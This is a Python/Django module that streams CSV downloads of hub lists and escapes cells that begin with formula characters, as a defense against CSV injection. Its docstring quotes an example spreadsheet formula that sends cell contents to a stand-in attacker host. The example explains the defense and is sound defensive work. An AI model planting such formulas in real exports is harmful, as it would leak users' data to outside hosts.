"""CSV downloads of the lists, safe to open in a spreadsheet.

A value the hub stores came from somewhere else (an HR export, a Moodle error message), so a cell such as
`=HYPERLINK("http://evil.example/?"&A1)` must not become a live formula in the operator's Excel. As OWASP
recommends for CSV injection, a cell starting with `=`, `+`, `-`, `@`, tab or carriage return is prefixed
with a single quote, and every cell is quoted. This is for exports only: what is sent to Moodle is never
escaped.

Rows are streamed: an export of a large filtered list holds one chunk of rows in memory, not the list.
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable, Iterator, Sequence
from datetime import datetime
from typing import Any

from django.db.models import QuerySet
from django.http import StreamingHttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# More rows than this and the export stops with a last row saying so: a longer download holds a database
# connection for minutes, and nobody reviews that many rows in a spreadsheet; narrowing the filter helps.
EXPORT_LIMIT = 100_000
CHUNK_SIZE = 2_000


def escape_cell(value: Any) -> str:
    """The cell as text, with a leading single quote when a spreadsheet would read it as a formula."""
    if value is None:
        text = ""
    elif isinstance(value, bool):
        text = "yes" if value else "no"
    elif isinstance(value, datetime):
        text = value.isoformat()
    else:
        text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


class _Echo:
    """A file-like object whose write() returns the line, so csv.writer can feed a generator."""

    def write(self, value: str) -> str:
        return value


def csv_lines(
    header: Sequence[str], rows: Iterable[Sequence[Any]], *, limit: int = EXPORT_LIMIT
) -> Iterator[str]:
    """The CSV text line by line (header first), every cell escaped, at most `limit` rows and then a note."""
    writer = csv.writer(_Echo(), quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    yield "\ufeff"  # a UTF-8 byte order mark: without it Excel reads "Łucja" as cp1252
    yield writer.writerow([escape_cell(name) for name in header])
    for count, row in enumerate(rows):
        if count == limit:
            note = f"(more rows match: the export stops at {limit:,}; narrow the filter to get the rest)"
            yield writer.writerow([escape_cell(note)])
            return
        yield writer.writerow([escape_cell(cell) for cell in row])


def csv_response(
    filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]], *, limit: int = EXPORT_LIMIT
) -> StreamingHttpResponse:
    """A streamed CSV download named `filename`. Give `rows` as a lazy iterable (a queryset's
    `.iterator(chunk_size=CHUNK_SIZE)` mapped to tuples) so the list is never held in memory."""
    response = StreamingHttpResponse(
        csv_lines(header, rows, limit=limit), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    response["Cache-Control"] = "no-store"  # personal data: no copy left in a shared proxy or browser cache
    return response


def queryset_csv(
    basename: str,
    columns: Sequence[tuple[str, str]],
    queryset: QuerySet,
    row: Callable[[tuple], Sequence[Any]] | None = None,
) -> StreamingHttpResponse:
    """A list's rows as a dated download (`basename-YYYY-MM-DD.csv`): `columns` are (title, field) pairs
    read with values_list in chunks, each row passed through `row` when given."""
    rows = queryset.values_list(*(field for _, field in columns)).iterator(chunk_size=CHUNK_SIZE)
    return csv_response(
        f"{basename}-{timezone.now():%Y-%m-%d}.csv",
        [title for title, _ in columns],
        map(row, rows) if row is not None else rows,
    )
